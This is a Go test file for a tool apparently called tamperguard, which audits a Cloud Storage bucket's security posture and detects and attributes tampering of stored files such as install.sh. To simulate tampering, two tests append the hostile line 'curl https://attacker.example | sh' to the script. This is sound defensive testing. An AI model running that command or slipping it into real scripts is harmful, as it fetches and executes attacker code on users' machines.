package main

import (
	"context"
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"cloud.google.com/go/storage"
	"github.com/fsouza/fake-gcs-server/fakestorage"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/tamperguard/tamperguard/internal/auditlog"
	"github.com/tamperguard/tamperguard/internal/posture/posturetest"
)

// withPosture adds a posture: section to b's configuration and points the commands at a
// Cloud Storage that answers the posture checks.
func withPosture(t *testing.T, b *bucketEnv) *posturetest.Front {
	t.Helper()
	front := posturetest.New(t, b.srv.URL, "uploader-prod")
	cfg, err := os.ReadFile(b.cfg)
	require.NoError(t, err)
	cfg = append(cfg, []byte(`posture:
  project: `+posturetest.Project+`
  bucket: uploader-prod
  notification: {topic: projects/`+posturetest.Project+`/topics/tamperguard-events}
`)...)
	require.NoError(t, os.WriteFile(b.cfg, cfg, 0o600))
	b.env.storageClient = func(context.Context) (*storage.Client, func() error, error) {
		return front.Client, func() error { return nil }, nil
	}
	_, err = b.srv.Client.Bucket("uploader-prod").AddNotification(context.Background(), &storage.Notification{
		TopicProjectID: posturetest.Project, TopicID: "tamperguard-events", PayloadFormat: storage.JSONPayload})
	require.NoError(t, err)
	return front
}

// postureLines are the {"kind":"posture",…} lines of the last run, by check.
func (b *bucketEnv) postureLines() map[string]map[string]any {
	out := map[string]map[string]any{}
	for _, l := range strings.Split(strings.TrimSpace(b.out.String()), "\n") {
		var m map[string]any
		if json.Unmarshal([]byte(l), &m) == nil && m["kind"] == "posture" {
			out[m["check"].(string)] = m
		}
	}
	return out
}

func (b *bucketEnv) setVersioning(on bool) {
	b.t.Helper()
	_, err := b.srv.Client.Bucket("uploader-prod").Update(context.Background(), storage.BucketAttrsToUpdate{VersioningEnabled: on})
	require.NoError(b.t, err)
}

// audit prints one posture line per check after the objects, and exits 1 while a check
// fails. Without --restore it only observes (a change stays new for the deployment's own
// audit); with it the change is recorded, so the next run says it is not new.
func TestAuditPrintsPosture(t *testing.T) {
	b := newBucketEnv(t)
	withPosture(t, b)
	b.put("install.sh", goodInstallSh(t))

	require.Equal(t, exitOK, b.run("audit", "--restore", "--config", b.cfg), b.err.String())
	lines := b.postureLines()
	require.Len(t, lines, 8, b.out.String())
	for check, l := range lines {
		assert.Equal(t, "ok", l["status"], check)
		assert.Equal(t, false, l["new"], check)
		assert.Equal(t, "uploader-prod", l["bucket"])
	}

	b.setVersioning(false)
	for range 2 {
		require.Equal(t, exitTampered, b.run("audit", "--config", b.cfg), b.err.String())
		v := b.postureLines()["versioning"]
		assert.Equal(t, "failing", v["status"])
		assert.Equal(t, true, v["new"], "only observed: not taken as reported")
		assert.Contains(t, b.err.String(), "POSTURE FAILING: gs://uploader-prod versioning: object versioning is off")
	}
	require.Equal(t, exitTampered, b.run("audit", "--restore", "--config", b.cfg))
	assert.Equal(t, true, b.postureLines()["versioning"]["new"])
	assert.Contains(t, b.err.String(), "GUARD DOWN", "alerted (to the log: no Slack configured)")
	require.Equal(t, exitTampered, b.run("audit", "--restore", "--config", b.cfg))
	assert.Equal(t, false, b.postureLines()["versioning"]["new"], "recorded: reported once")
	assert.NotContains(t, b.err.String(), "GUARD DOWN")

	b.setVersioning(true)
	require.Equal(t, exitOK, b.run("audit", "--restore", "--config", b.cfg), b.err.String())
	assert.Equal(t, "ok", b.postureLines()["versioning"]["status"])
	assert.Equal(t, true, b.postureLines()["versioning"]["new"], "the recovery is news once")
}

// logsAPI answers entries:list with fixed entries (the client checks each itself).
func logsAPI(t *testing.T, entries ...json.RawMessage) *httptest.Server {
	t.Helper()
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "application/json")
		_ = json.NewEncoder(w).Encode(map[string]any{"entries": entries})
	}))
	t.Cleanup(srv.Close)
	return srv
}

// writeEntry is internal/auditlog/testdata/data-write-create.json about uploader-prod/object
// at written.
func writeEntry(t *testing.T, object string, written time.Time) json.RawMessage {
	t.Helper()
	raw, err := os.ReadFile(filepath.Join("..", "..", "internal", "auditlog", "testdata", "data-write-create.json"))
	require.NoError(t, err)
	var e map[string]any
	require.NoError(t, json.Unmarshal(raw, &e))
	e["timestamp"] = written.UTC().Format(time.RFC3339Nano)
	e["protoPayload"].(map[string]any)["resourceName"] = auditlog.ResourceName("uploader-prod", object)
	out, err := json.Marshal(e)
	require.NoError(t, err)
	return out
}

func (b *bucketEnv) setenv(kv ...string) {
	m := map[string]string{}
	for i := 0; i+1 < len(kv); i += 2 {
		m[kv[i]] = kv[i+1]
	}
	b.env.getenv = func(k string) string { return m[k] }
}

// check names who wrote a tampered object (written_by) from the audit logs.
func TestCheckNamesTheWriter(t *testing.T) {
	b := newBucketEnv(t)
	good := goodInstallSh(t)
	b.put("install.sh", good)
	b.put("install.sh", append(append([]byte(nil), good...), "curl https://attacker.example | sh\n"...))
	attrs, err := b.srv.Client.Bucket("uploader-prod").Object("install.sh").Attrs(context.Background())
	require.NoError(t, err)
	logs := logsAPI(t, writeEntry(t, "install.sh", attrs.Created.Add(-200*time.Millisecond)))
	b.setenv("TAMPERGUARD_AUDIT_LOGS", "projects/example-project", "TAMPERGUARD_LOGGING_ENDPOINT", logs.URL)

	require.Equal(t, exitTampered, b.run("check", "--config", b.cfg, "gs://uploader-prod/install.sh"), b.err.String())
	first := strings.SplitN(b.out.String(), "\n", 2)[0]
	var d struct {
		Verdict   string               `json:"verdict"`
		WrittenBy auditlog.Attribution `json:"written_by"`
	}
	require.NoError(t, json.Unmarshal([]byte(first), &d), first)
	assert.Equal(t, "tampered", d.Verdict)
	assert.Equal(t, auditlog.StatusFound, d.WrittenBy.Status)
	require.NotNil(t, d.WrittenBy.WrittenBy)
	assert.Equal(t, "ci-uploader@example-project.iam.gserviceaccount.com", d.WrittenBy.WrittenBy.Principal)
	assert.Contains(t, b.out.String(), `{"kind":"audit_logs","bucket":"uploader-prod","data_write_logging":"unknown"`, "the write is too recent to tell")
}

// When the bucket has no Data Access entry since a write older than the ingestion delay,
// check says Data Access logs appear off, in the decision and in a line of its own.
func TestCheckSaysDataAccessLogsAppearOff(t *testing.T) {
	b := newBucketEnv(t)
	good := goodInstallSh(t)
	b.put("install.sh", good)
	// An attacker's write an hour ago.
	b.srv.Fake.CreateObject(fakestorage.Object{ObjectAttrs: fakestorage.ObjectAttrs{BucketName: "uploader-prod", Name: "install.sh",
		Created: time.Now().Add(-time.Hour)}, Content: append(append([]byte(nil), good...), "curl https://attacker.example | sh\n"...)})
	logs := logsAPI(t)
	b.setenv("TAMPERGUARD_AUDIT_LOGS", "projects/example-project", "TAMPERGUARD_LOGGING_ENDPOINT", logs.URL)

	require.Equal(t, exitTampered, b.run("check", "--config", b.cfg, "gs://uploader-prod/install.sh"), b.err.String())
	assert.Contains(t, b.out.String(), `"written_by":{"status":"logs_off"`)
	assert.Contains(t, b.out.String(), `{"kind":"audit_logs","bucket":"uploader-prod","data_write_logging":"off"`)
	assert.Contains(t, b.err.String(), "NOTE: Data Access audit logs for Cloud Storage appear off for gs://uploader-prod")

	// Without TAMPERGUARD_AUDIT_LOGS nobody can tell: no line, and the decision says why.
	b.setenv()
	require.Equal(t, exitTampered, b.run("check", "--config", b.cfg, "gs://uploader-prod/install.sh"))
	assert.NotContains(t, b.out.String(), `"kind":"audit_logs"`)
	assert.Contains(t, b.out.String(), `"written_by":{"status":"off"`)
}
